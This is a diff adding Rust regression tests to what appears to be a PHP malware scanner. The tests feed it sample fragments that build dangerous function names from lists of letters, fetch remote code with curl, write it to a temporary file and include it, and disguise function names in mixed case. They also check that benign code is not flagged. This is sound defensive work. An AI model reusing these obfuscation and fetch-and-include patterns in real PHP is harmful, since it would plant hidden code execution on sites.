@@ -1310,6 +1310,17 @@ fn a_small_script_loading_php_from_a_hidden_folder_is_found() {
 }
 
 #[test]
+fn dangerous_names_kept_as_lists_of_letters_are_hidden() {
+    // Regression: fresh126's `invisio.php` joins its function names from lists of letters.
+    let lists = "<?php function sjoin($a) { return implode('', $a); } $map = ['muf' => ['m','o','v','e','_','u','p','l','o','a','d','e','d','_','f','i','l','e'],\n\
+                 'fpc' => ['f','i','l','e','_','p','u','t','_','c','o','n','t','e','n','t','s']]; $f = sjoin($map['muf']); $f($a, $b);";
+    assert!(found(lists).contains(&Why::HiddenFunctionName), "{:?}", found(lists));
+    // A keyboard layout's rows of letters name nothing.
+    let rows = "<?php $rows = [['q','w','e','r','t','y'], ['a','s','d','f']]; $f = 'strtoupper'; echo $f($rows[0][0]);";
+    assert!(found(rows).is_empty(), "{:?}", found(rows));
+}
+
+#[test]
 fn a_functions_name_written_in_base64_and_called_through_a_variable_is_hidden() {
     // Regression: fresh123's GladiusPHP loader decodes `pack` and `preg_replace_callback`
     // from base64 with a decoder of its own, then calls what it got.
@@ -1571,6 +1582,13 @@ fn code_fetched_and_included_from_a_temporary_file_is_found() {
                $res = curl_exec($ch); $tmp = tmpfile(); $path = stream_get_meta_data($tmp)['uri'];\n\
                fprintf($tmp, '%s', $res); include($path);";
     assert!(found(tmp).contains(&Why::CodeFromInternet), "{:?}", found(tmp));
+    // Regression: fresh126's `hesh.php` takes the path out of the metadata in a statement of
+    // its own.
+    let meta = tmp
+        .replace("$path = stream_get_meta_data($tmp)['uri'];", "$m = stream_get_meta_data($tmp); $path = $m['uri'];");
+    assert!(found(&meta).contains(&Why::CodeFromInternet), "{:?}", found(&meta));
+    // (Its names in mixed case pass the words every shape needs: `CuRL_exEc`.)
+    assert!(super::may_match(b"<?php $C = cUrL_inIt($L); $r = CuRL_exEc($C);"));
     let named = "<?php $data = file_get_contents('https://api.example/repos/x/contents/k.php'); $f = tempnam(sys_get_temp_dir(), 'c_');\n\
                  file_put_contents($f, base64_decode($data)); include($f); unlink($f);";
     assert!(found(named).contains(&Why::CodeFromInternet), "{:?}", found(named));
